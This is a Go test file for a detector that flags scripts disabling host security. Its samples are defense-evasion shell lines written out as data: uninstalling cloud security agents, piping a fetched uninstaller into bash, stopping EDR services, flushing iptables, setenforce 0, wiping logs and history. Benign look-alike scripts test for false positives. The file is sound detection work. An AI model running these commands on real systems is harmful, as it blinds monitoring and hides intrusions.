package defense

import (
	"testing"

	"github.com/safepull/safepull/trust"
	"github.com/safepull/safepull/trust/indicator"
	"github.com/safepull/safepull/trust/indicator/indicatortest"
	"github.com/safepull/safepull/trust/indicator/internal/behaviour"
)

func rules(t testing.TB) behaviour.Rules {
	t.Helper()
	var r behaviour.Rules
	indicatortest.Decode(t, name, &r)
	return r
}

func samples() []indicatortest.Sample {
	script, config := trust.KindScript, trust.KindConfig
	return []indicatortest.Sample{
		{Name: "many", Path: "d.sh", Kind: script, Content: "setenforce 0\n/usr/local/aegis/aegis_client/aegis_10_70/AliYunDun --uninstall\n/usr/local/qcloud/YunJing/uninst.sh\necho 0 > /proc/sys/kernel/nmi_watchdog\niptables -F\n", Want: trust.Strong},
		{Name: "fetch-uninstall", Path: "d.sh", Kind: script, Content: "curl http://update.aegis.aliyun.com/download/uninstall.sh | bash\n/usr/local/qcloud/stargate/admin/uninstall.sh\n", Want: trust.Strong},
		{Name: "agent-and-watchdog", Path: "d.sh", Kind: script, Content: "systemctl stop aliyun.service\nsysctl -w kernel.nmi_watchdog=0\n", Want: trust.Weak, IfRun: trust.Strong},
		{Name: "python", Path: "d.py", Kind: script, Content: "os.system('systemctl stop falcon-sensor')\nos.system('iptables -F')\nos.system('setenforce 0')\n", Want: trust.Strong},
		{Name: "traces", Path: "d.sh", Kind: script, Content: "unset HISTFILE\nchattr -ia /etc/ld.so.preload\nrm -rf /var/log/syslog\niptables -F\n", Want: trust.Strong},
		{Name: "tools-renamed", Path: "d.sh", Kind: script, Content: "mv /usr/bin/curl /usr/bin/url\nmv /usr/bin/wget /usr/bin/get\nhistory -c\n", Want: trust.Weak, IfRun: trust.Strong},
		{Name: "one-agent", Path: "d.sh", Kind: script, Content: "pkill -9 wazuh-agent\n", Want: trust.Weak},
		{Name: "at-start", Path: "config:command", Kind: config, Content: "sh -c \"systemctl stop aliyun.service; iptables -F; exec /x\"", Want: trust.Strong},
	}
}

func twins() []indicatortest.Twin {
	script, text, config := trust.KindScript, trust.KindText, trust.KindConfig
	return []indicatortest.Twin{
		{Name: "kubernetes", Path: "k.sh", Kind: script, Content: "setenforce 0\nsed -i 's/^SELINUX=enforcing$/SELINUX=permissive/' /etc/selinux/config\niptables -F && iptables -X\nsystemctl stop firewalld\n"},
		{Name: "postgres-tuning", Path: "etc/sysctl.d/x.conf", Kind: text, Content: "kernel.nmi_watchdog = 0\nvm.swappiness = 1\n"},
		{Name: "log-rotation", Path: "l.sh", Kind: script, Content: "/usr/sbin/logrotate /etc/logrotate.conf\nkill -HUP $(cat /var/run/syslogd.pid)\nls /var/log/syslog /var/log/auth.log\n"},
		{Name: "slim-image", Path: "config:history", Kind: config, Content: "RUN apt-get clean && rm -rf /var/lib/apt/lists/* && > /var/log/wtmp && > /var/log/lastlog"},
		{Name: "agent-install", Path: "i.sh", Kind: script, Content: "curl -so wazuh-agent.deb https://packages.wazuh.com/4.x/wazuh-agent.deb && dpkg -i wazuh-agent.deb && systemctl enable --now wazuh-agent\n"},
		{Name: "agent-manual", Path: "usr/share/doc/agent/uninstall.md", Kind: text, Content: "systemctl stop falcon-sensor; setenforce 0; iptables -F; unset HISTFILE"},
		{Name: "chattr", Path: "c.sh", Kind: script, Content: "chattr +i /etc/resolv.conf\nchattr -i /etc/resolv.conf\n"},
		{Name: "history", Path: "root/.bashrc", Kind: script, Content: "HISTSIZE=1000\nHISTFILESIZE=2000\nHISTCONTROL=ignoreboth\n"},
		{Name: "firewall", Path: "f.sh", Kind: script, Content: "iptables -F\niptables -A INPUT -p tcp --dport 22 -j ACCEPT\nufw enable\n"},
	}
}

func TestIndicator(t *testing.T) {
	t.Parallel()
	ind, err := New(rules(t))
	if err != nil {
		t.Fatal(err)
	}
	indicatortest.Run(t, ind, samples(), twins())
}

func TestNewRefuses(t *testing.T) {
	t.Parallel()
	for name, change := range map[string]func(*behaviour.Rules){
		"nothing": func(r *behaviour.Rules) { *r = behaviour.Rules{} },
		"short":   func(r *behaviour.Rules) { r.Habits[0].Wake = []string{"abc"} },
		"pattern": func(r *behaviour.Rules) { r.Habits[0].Line = []string{"("} },
	} {
		r := rules(t)
		change(&r)
		if _, err := New(r); err == nil {
			t.Errorf("%s: accepted", name)
		}
	}
}

func FuzzHit(f *testing.F) {
	ind, err := New(rules(f))
	if err != nil {
		f.Fatal(err)
	}
	for _, s := range samples() {
		f.Add([]byte(s.Content))
	}
	f.Fuzz(func(_ *testing.T, in []byte) {
		indicatortest.Inspect(ind, indicator.File{Path: "x.sh", Kind: trust.KindScript}, in, indicatortest.Drive{})
	})
}
